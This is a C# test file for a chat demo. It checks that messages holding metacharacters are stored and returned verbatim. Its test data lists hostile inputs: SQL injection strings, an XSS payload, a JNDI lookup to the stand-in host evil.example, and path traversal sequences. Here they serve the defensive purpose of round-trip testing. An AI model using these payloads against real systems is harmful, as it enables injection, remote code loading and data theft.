using ChatDemo.Web.Tests.TestInfrastructure;

namespace ChatDemo.Web.Tests.Reliability;

/// <summary>
/// Texts full of SQL, DynamoDB-expression, markup and path metacharacters are valid messages:
/// they are stored verbatim and come back exactly, live and from history.
/// </summary>
public sealed class MetacharacterRoundTripTests(BadInputFixture fixture) : IClassFixture<BadInputFixture>
{
    public static TheoryData<string> Texts() =>
    [
        "'; DROP TABLE messages; --",
        "Robert'); DROP TABLE students;--",
        "\" OR \"1\"=\"1\" --",
        "1; SELECT * FROM sqlite_master",
        "#name = :v",
        ":v",
        "attribute_exists(pk) AND attribute_not_exists(#s)",
        "SET #t = :t REMOVE #x ADD :n",
        "begins_with(sk, :p) OR size(#l) > :z",
        "{\"action\":\"sendMessage\",\"clientMessageId\":\"x\",\"text\":\"nested\"}",
        "<script>alert('xss')</script><img src=x onerror=alert(1)>",
        "${jndi:ldap://evil.example/a} {{7*7}} %s%n",
        "%00 %2e%2e/%2F ..\\..\\windows\\system32",
        "\\u0000 is not a NUL here, just text",
        "😀 emoji, 𝔘𝔫𝔦𝔠𝔬𝔡𝔢, עברית, \u202Eright-to-left override\u202C",
        "line one\nline two\twith a tab",
        "zero\u200Bwidth\u200Cjoiner\u200D",
        new string('x', 2000),
        string.Concat(Enumerable.Repeat("😀", 2000)),
    ];

    [Theory]
    [MemberData(nameof(Texts))]
    public async Task ValidTextWithMetacharactersIsStoredVerbatimAndRoundTrips(string text)
    {
        var room = "meta-" + Guid.NewGuid().ToString("N");
        var session = await fixture.App.CreateSessionAsync("O'Brien-Smith Jr.");
        await using var socket = await fixture.App.ConnectAsync(session, room);

        await socket.SendMessageAsync("m1", text);

        var ack = await socket.WaitForAsync("ack");
        var live = await socket.WaitForAsync("message");
        Assert.Equal(text, live.GetProperty("text").GetString());
        var history = await fixture.App.GetJsonAsync($"/api/rooms/{room}/messages");
        var stored = Assert.Single(history.GetProperty("messages").EnumerateArray());
        Assert.Equal(text, stored.GetProperty("text").GetString());
        Assert.Equal(ack.GetProperty("id").GetString(), stored.GetProperty("id").GetString());
        Assert.Equal("O'Brien-Smith Jr.", stored.GetProperty("sender").GetProperty("name").GetString());
    }
}
